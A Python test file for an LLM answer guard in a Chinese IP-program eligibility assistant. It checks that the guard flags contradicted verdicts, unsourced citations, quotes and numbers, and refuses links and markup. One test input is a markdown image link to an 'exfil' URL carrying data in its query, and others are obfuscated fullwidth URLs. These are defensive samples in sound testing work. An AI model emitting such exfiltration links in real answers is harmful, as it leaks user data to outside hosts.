"""The LLM output guard on planted answers: verdicts, cited ids, quotes, numbers."""

from __future__ import annotations

from pathlib import Path

import pytest

from assistant.answering.guard import check_answer
from assistant.corpus.library import Library
from assistant.rules import Verdict

CORPUS = Path(__file__).resolve().parent.parent / "corpus"
NAMES = {"city": ["示范市"], "county": ["示范县"]}
VERDICTS = {"city": Verdict(status="ineligible", reason="", citations=[]),
            "county": Verdict(status="eligible", reason="", citations=[])}
CONTEXT = "问题：昆山市能申报吗？ 〔notice#2.2〕二、申报单位 › （二）：（二）申报国家知识产权强县建设示范县创建的应为直辖市下辖县"


@pytest.fixture(scope="module")
def library() -> Library:
    return Library(CORPUS)


def problems(library: Library, text: str) -> list[str]:
    return check_answer(text, library=library, allowed_ids={"notice#2.2"}, verdicts=VERDICTS,
                        type_names=NAMES, context=CONTEXT)


def test_a_faithful_answer_passes(library: Library) -> None:
    text = "昆山市可以申报示范县〔notice#2.2〕，不能申报示范市。原文：「地级市（地区、州、盟）的市辖区（市、县、旗）人民政府」"
    assert problems(library, text) == []


def test_contradicting_a_verdict_is_caught(library: Library) -> None:
    found = problems(library, "昆山市可以申报示范市，也符合示范县的条件〔notice#2.2〕。")
    assert any("city" in p for p in found)
    found = problems(library, "昆山市不能申报示范县〔notice#2.2〕。")
    assert any("county" in p for p in found)


def test_citing_a_clause_not_given_is_caught(library: Library) -> None:
    assert any("notice#9.1" in p for p in problems(library, "可以申报示范县〔notice#9.1〕。"))
    assert any("notice#5.4" in p for p in problems(library, "可以申报示范县〔notice#5.4〕。"))


def test_a_quote_not_in_the_source_is_caught(library: Library) -> None:
    assert any("引文" in p for p in problems(library, "通知规定「县级市均可申报示范市」〔notice#2.2〕。"))


def test_a_number_or_date_not_in_the_sources_is_caught(library: Library) -> None:
    found = problems(library, "可以申报示范县〔notice#2.2〕，请在2025年11月30日前提交，名额3个。")
    assert {"11", "30", "3"} <= {p.split()[-1] for p in found if "数字" in p}


PUDONG = {"city": Verdict(status="eligible", reason="", citations=[]),
          "county": Verdict(status="ineligible", reason="", citations=[])}


@pytest.mark.parametrize("text", [
    "贵单位完全满足示范县的各项要求，建议尽快准备材料提交。",
    "直辖市的区不能申报示范县的说法已过时。",
    "关于示范县，不能申报的说法已经不准确了，可以放心准备材料。",
    "貴單位完全滿足示範縣的各項要求。",  # traditional characters
    "示范县方面，贵单位具备申报资格。",
])
def test_a_contradiction_in_any_wording_is_caught(library: Library, text: str) -> None:
    found = check_answer(text, library=library, allowed_ids={"notice#2.2"}, verdicts=PUDONG, type_names=NAMES,
                         context=CONTEXT)
    assert any("county" in p and "矛盾" in p for p in found), found


@pytest.mark.parametrize("text", [
    "![](http://host/exfil?q=浦东新区人民政府)", "详见[申报入口](http://apply.example/)", "请访问 www.apply-now.cn 报名",
    "请把材料发到 shenbao@apply-now.cn", "登录 apply-now.cn 填写", "<img src=x>", "&lt;b&gt;", "ｈｔｔｐ：／／ｘ．ｃｎ",
    "［点我］（ｘ）", "\n[申报]: /apply",
])
def test_links_addresses_and_markup_are_refused(library: Library, text: str) -> None:
    found = problems(library, f"可以申报示范县〔notice#2.2〕。{text}")
    assert any("链接" in p or "地址" in p for p in found), found


def test_the_notice_mailbox_may_be_named_when_the_sources_have_it(library: Library) -> None:
    text = "材料请发送至zLzL@cnipa.gov.cn。"
    assert check_answer(text, library=library, allowed_ids=set(), verdicts=None, type_names=NAMES,
                        context="邮箱：zLzL@cnipa.gov.cn") == []


def test_sentences_saying_who_may_apply_are_left_to_the_program() -> None:
    from assistant.answering.guard import without_claims

    text = ("可以申报示范县。昆山市属于地级市下辖的县级市〔notice#2.2〕。示范县须为县级人民政府。"
            "原文：「申报国家知识产权强县建设示范县创建的应为直辖市下辖县」。贵单位符合条件，建议尽快提交。")
    assert without_claims(text, NAMES, judged=False) == (
        "昆山市属于地级市下辖的县级市〔notice#2.2〕。原文：「申报国家知识产权强县建设示范县创建的应为直辖市下辖县」。"
        "贵单位符合条件，建议尽快提交。")
    assert without_claims(text, NAMES, judged=True).endswith("直辖市下辖县」。")
